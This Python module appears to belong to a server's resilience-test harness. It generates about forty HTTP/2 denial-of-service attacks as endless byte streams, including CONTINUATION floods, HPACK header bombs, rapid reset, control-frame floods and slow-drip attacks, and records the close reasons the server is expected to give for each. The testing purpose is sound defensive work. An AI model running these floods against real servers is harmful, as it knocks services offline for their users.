# SPDX-License-Identifier: Apache-2.0
"""What one connection without credentials can do to an HTTP/2 server: each attack is a generator of bytes to send.

An attack gets its connection (harness.h2.Connection) and may look at what came back; it is endless, and whoever runs it
decides when it is over. Bytes come in large pieces, so that the server is the slower one.
"""
import array
import itertools
import random
import sys
import time
from typing import Callable, NamedTuple

from harness import h2
from harness.h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PRIORITY_UPDATE,
                        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame)

PIECE = 1 << 18
FRAME_MAX = 16384
MESSAGE = 4 << 20
SMALL = h2.headers([(b"k", b"v")])
CANCELLED = h2.CANCEL.to_bytes(4, "big")
EMPTY_MESSAGE = bytes(5)
OPENED = frame(HEADERS, END_HEADERS, h2.headers(h2.EXPORT, h2.INDEXING))
AGAIN = h2.again(h2.EXPORT)
# Of a message of 4 MiB the first byte.
BEGUN = b"\0" + MESSAGE.to_bytes(4, "big")

# Why the server may say that it closed a connection.
HEADER_BOUNDS = {"headers", "continuations"}
STREAM_BOUNDS = {"streams", "resets", "control_frames", "protocol_error"}


class Attack(NamedTuple):
    """`reasons`: those that the server may count. `closes`: it must close; otherwise it may also hold out."""

    run: Callable
    reasons: set
    closes: bool = True
    greeting: bytes = h2.PREFACE
    reads: bool = True


def again_and_again(unit):
    piece = unit * (PIECE // len(unit) + 1)
    while True:
        yield piece


def on_streams(*frames, first=1, most=0):
    """These frames, (kind, flags, payload), on one stream of a client's after the other. `most`: this number at a time,
    and a pause, so that the server can close streams before their number is over its limit."""
    unit, places = b"", []
    for kind, flags, payload in frames:
        places.append(len(unit) + 5)
        unit += frame(kind, flags, payload, stream=0)
    count = most or max(1, PIECE // len(unit))
    while first + 2 * count < 2 ** 31:
        numbers = array.array("I", range(first, first + 2 * count, 2))
        if sys.byteorder == "little":
            numbers.byteswap()
        octets, piece = numbers.tobytes(), bytearray(unit * count)
        for place, i in itertools.product(places, range(4)):
            piece[place + i::len(unit)] = octets[i::4]
        yield bytes(piece)
        time.sleep(.001 if most else 0)
        first += 2 * count


def opened(*frames, most=0):
    """A call with the headers of an Export, then others whose headers are an octet each."""
    yield OPENED
    yield from on_streams(*frames, first=3, most=most)


def repeated(unit, before=b""):
    """A function that is an attack: this, and then the unit again and again."""
    def run(_):
        yield before
        yield from again_and_again(unit)
    return run


def after_headers(unit):
    return repeated(unit, OPENED)


def in_block(unit, begin=b""):
    """In a header block that never ends."""
    return repeated(frame(CONTINUATION, 0, unit), frame(HEADERS, 0, h2.headers(h2.EXPORT) + begin))


# ---- headers

HUGE_STRING = b"\0" + h2.integer(0, 7, 1) + b"k" + h2.integer(0, 7, 1 << 30)
ENDLESS_VARINT = b"\0\x7f"


def indexed_headers(_):
    """A header of 4,000 bytes stands in the dynamic table, and each octet is that header once more: 60 MB in a frame."""
    large = [(b"k", b"v" * 4000)]
    yield frame(HEADERS, END_HEADERS | END_STREAM, h2.headers(h2.EXPORT) + h2.headers(large, h2.INDEXING))
    block = h2.headers(h2.EXPORT)
    block += h2.again(large) * (FRAME_MAX - len(block))
    yield from on_streams((HEADERS, END_HEADERS | END_STREAM, block), first=3)


def many_headers(_):
    block = h2.headers(h2.EXPORT)
    block += SMALL * ((FRAME_MAX - len(block)) // len(SMALL))
    yield from on_streams((HEADERS, END_HEADERS | END_STREAM, block))


def large_headers(_):
    """Complete header blocks of 80 KB in five frames."""
    large = h2.headers([(b"k", b"v" * 16000)])
    yield from on_streams((HEADERS, END_STREAM, h2.headers(h2.EXPORT)), *[(CONTINUATION, 0, large)] * 4,
                          (CONTINUATION, END_HEADERS, large))


def large_trailers(_):
    trailers = SMALL * (FRAME_MAX // len(SMALL))
    yield from opened((HEADERS, END_HEADERS, AGAIN), (HEADERS, END_HEADERS | END_STREAM, trailers))


def table_updates(_):
    """Header blocks of nothing but changes of the dynamic table's size (RFC 7541, 6.3)."""
    pair = h2.integer(0x20, 5, 0) + h2.integer(0x20, 5, 4096)
    yield from on_streams((HEADERS, END_HEADERS | END_STREAM, pair * (FRAME_MAX // len(pair))))


# ---- streams

def rapid_reset(_):
    yield from opened((HEADERS, END_HEADERS, AGAIN), (RST_STREAM, 0, CANCELLED))


def resets_by_the_server(_):
    """The server is made to reset each call itself, by a window that becomes too large (RFC 9113, 6.9.1)."""
    yield from opened((HEADERS, END_HEADERS, AGAIN), (WINDOW_UPDATE, 0, h2.WINDOW_MAX.to_bytes(4, "big")), most=50)


def calls_that_stay_open(_):
    yield from opened((HEADERS, END_HEADERS, AGAIN))


def health_checks(_):
    """Calls that are answered with a message."""
    yield frame(HEADERS, END_HEADERS, h2.headers(h2.HEALTH, h2.INDEXING)) + frame(DATA, END_STREAM, EMPTY_MESSAGE)
    yield from on_streams((HEADERS, END_HEADERS, h2.again(h2.HEALTH)), (DATA, END_STREAM, EMPTY_MESSAGE), first=3, most=50)


# ---- bodies

def within_windows(connection, unit, cost, first=b""):
    """Calls whose bodies are made of this unit, as much of it as the windows permit (`cost` of them a unit)."""
    for stream in itertools.count(1, 2):
        yield (frame(HEADERS, END_HEADERS, h2.headers(h2.EXPORT), stream)
               + frame(DATA, 0, first, stream) * bool(first))
        spent, count = len(first), max(1, 32768 // cost // 8)
        connection.window -= len(first)
        piece = (unit[:5] + stream.to_bytes(4, "big") + unit[9:]) * count
        while stream not in connection.finished and stream not in connection.reset:
            room = connection.stream_window + connection.widened.get(stream, 0) - spent
            if min(room, connection.window) < count * cost or spent + count * cost > MESSAGE:
                time.sleep(.001)
                yield b""
                continue
            spent += count * cost
            connection.window -= count * cost
            yield piece


def one_byte_bodies(connection):
    return within_windows(connection, frame(DATA, 0, b"x"), 1, BEGUN)


def padded_bodies(connection):
    """DATA of nothing but padding: 256 octets of the window, and no progress."""
    return within_windows(connection, frame(DATA, h2.PADDED, b"\xff" + bytes(255)), 256, BEGUN)


# ---- slowly

def dripped_preface(_):
    for i in range(len(h2.MAGIC) - 1):
        yield h2.MAGIC[i:i + 1]
        time.sleep(.1)
    while True:
        time.sleep(.1)
        yield b""


def dripped_headers(_):
    """A HEADERS frame, an octet at a time."""
    block = h2.headers([*h2.EXPORT, (b"k", b"v" * 8000)])
    for octet in frame(HEADERS, END_HEADERS, block):
        yield bytes([octet])
        time.sleep(.02)


def dripped_continuations(_):
    """A header block in frames of an octet each."""
    yield frame(HEADERS, 0, b"")
    for octet in h2.headers([*h2.EXPORT, (b"k", b"v" * 8000)]):
        yield frame(CONTINUATION, 0, bytes([octet]))
        time.sleep(.02)


def dripped_bodies(_):
    """A hundred calls, each with a message of 4 MiB, an octet at a time."""
    streams = range(1, 200, 2)
    yield b"".join(frame(HEADERS, END_HEADERS, h2.headers(h2.EXPORT), s) + frame(DATA, 0, BEGUN, s) for s in streams)
    while True:
        yield b"".join(frame(DATA, 0, b"x", s) for s in streams)
        time.sleep(.1)


def noise(_):
    return again_and_again(random.Random(1).randbytes(PIECE))


SETTINGS_PAIRS = h2.settings((h2.HEADER_TABLE_SIZE, 0), (h2.INITIAL_WINDOW_SIZE, 0), (h2.HEADER_TABLE_SIZE, 4096),
                             (h2.INITIAL_WINDOW_SIZE, h2.WINDOW_MAX))
CLOSED_WINDOW = h2.MAGIC + frame(SETTINGS, 0, h2.settings((h2.INITIAL_WINDOW_SIZE, 0)), stream=0)
OPEN_WINDOW = (h2.MAGIC + frame(SETTINGS, 0, h2.settings((h2.INITIAL_WINDOW_SIZE, h2.WINDOW_MAX)), stream=0)
               + frame(WINDOW_UPDATE, 0, (h2.WINDOW_MAX - h2.WINDOW).to_bytes(4, "big"), stream=0))

ATTACKS = {
    "CONTINUATION flood of small headers": Attack(in_block(SMALL), HEADER_BOUNDS),
    "CONTINUATION flood of empty frames": Attack(in_block(b""), HEADER_BOUNDS),
    "header string of 1 GB": Attack(in_block(b"a" * FRAME_MAX, HUGE_STRING), HEADER_BOUNDS | {"protocol_error"}),
    "header string of 1 GB, an octet a frame": Attack(in_block(b"a", HUGE_STRING), HEADER_BOUNDS | {"protocol_error"}),
    "endless varint": Attack(in_block(b"\x80" * FRAME_MAX, ENDLESS_VARINT), HEADER_BOUNDS | {"protocol_error"}),
    "endless varint, an octet a frame": Attack(in_block(b"\x80", ENDLESS_VARINT), HEADER_BOUNDS | {"protocol_error"}),
    "3,000 headers a call": Attack(many_headers, HEADER_BOUNDS),
    "headers of 80 KB a call": Attack(large_headers, HEADER_BOUNDS),
    "headers of 60 MB a call out of the dynamic table": Attack(indexed_headers, HEADER_BOUNDS),
    "dynamic table size updates": Attack(table_updates, HEADER_BOUNDS | STREAM_BOUNDS),
    "trailers of 3,000 headers": Attack(large_trailers, HEADER_BOUNDS),
    "trailers again and again": Attack(
        after_headers(frame(HEADERS, END_HEADERS, SMALL)), STREAM_BOUNDS | HEADER_BOUNDS),
    "rapid reset": Attack(rapid_reset, {"resets", "control_frames", "streams"}),
    "resets by the server": Attack(resets_by_the_server, STREAM_BOUNDS),
    "calls beyond the limit that stay open": Attack(calls_that_stay_open, STREAM_BOUNDS),
    "calls whose replies have no window": Attack(health_checks, STREAM_BOUNDS | {"outbound"}, greeting=CLOSED_WINDOW),
    "replies that are not read": Attack(health_checks, {"outbound", *STREAM_BOUNDS}, closes=False, greeting=OPEN_WINDOW,
                                        reads=False),
    "RST_STREAM of a closed stream": Attack(
        after_headers(frame(RST_STREAM, 0, CANCELLED)), {"resets", "control_frames", "protocol_error"}),
    "DATA of a closed stream": Attack(
        # Dropped by nghttp2 before anybody sees it, at less cost than counting it.
        repeated(frame(DATA, 0, b""), OPENED + frame(RST_STREAM, 0, CANCELLED)), {"control_frames", "protocol_error"},
        closes=False),
    "DATA of no length": Attack(after_headers(frame(DATA, 0, b"")), {"control_frames", "body_rate"}),
    "DATA of an octet": Attack(one_byte_bodies, {"control_frames", "body_rate"}, closes=False),
    "DATA of padding": Attack(padded_bodies, {"control_frames", "body_rate"}, closes=False),
    "PRIORITY flood": Attack(lambda _: on_streams((PRIORITY, 0, bytes(4) + b"\x0f")), {"control_frames"}),
    "PRIORITY_UPDATE flood": Attack(
        repeated(frame(PRIORITY_UPDATE, 0, (1).to_bytes(4, "big") + b"u=1", stream=0)), {"control_frames"}),
    "SETTINGS flood": Attack(repeated(frame(SETTINGS, 0, b"", stream=0)), {"settings", "control_frames"}),
    "SETTINGS flood that is not read": Attack(
        repeated(frame(SETTINGS, 0, b"", stream=0)), {"settings", "control_frames", "outbound"}, reads=False),
    "SETTINGS of 2,700 entries": Attack(
        repeated(frame(SETTINGS, 0, SETTINGS_PAIRS * 680, stream=0)), {"settings", "control_frames", "protocol_error"}),
    "PING flood": Attack(repeated(frame(PING, 0, bytes(8), stream=0)), {"pings", "control_frames"}),
    "PING flood that is not read": Attack(
        repeated(frame(PING, 0, bytes(8), stream=0)), {"pings", "control_frames", "outbound"}, reads=False),
    "WINDOW_UPDATE flood": Attack(repeated(frame(WINDOW_UPDATE, 0, b"\0\0\0\1", stream=0)), {"control_frames"}),
    "WINDOW_UPDATE flood of a stream": Attack(after_headers(frame(WINDOW_UPDATE, 0, b"\0\0\0\1")), {"control_frames"}),
    "flood of an unknown frame type": Attack(repeated(frame(0x77, 0, b"", stream=0)), {"control_frames"}),
    "GOAWAY flood": Attack(repeated(frame(GOAWAY, 0, bytes(8), stream=0)), {"control_frames", "protocol_error"}),
    "a frame of 16 MB": Attack(repeated(bytes(PIECE), b"\xff\xff\xff\0\0\0\0\0\1"), {"protocol_error"}),
    "not HTTP/2": Attack(noise, {"protocol_error"}, greeting=b""),
    "dripped preface": Attack(dripped_preface, {"handshake_timeout"}, closes=False, greeting=b""),
    "dripped headers": Attack(dripped_headers, {"header_timeout"}, closes=False),
    "dripped CONTINUATION": Attack(dripped_continuations, HEADER_BOUNDS | {"header_timeout"}, closes=False),
    "dripped bodies": Attack(dripped_bodies, {"body_rate", "control_frames"}, closes=False),
}


def run(attack, connection, seconds, bytes_max):
    """Attacks until the connection is closed, the time is over, or bytes_max are sent. How long it took."""
    begun = time.monotonic()
    end = begun + seconds
    for piece in attack.run(connection):
        if connection.ended.is_set() or time.monotonic() > end or connection.sent > bytes_max:
            break
        if not connection.send(piece, end):
            break
    return time.monotonic() - begun
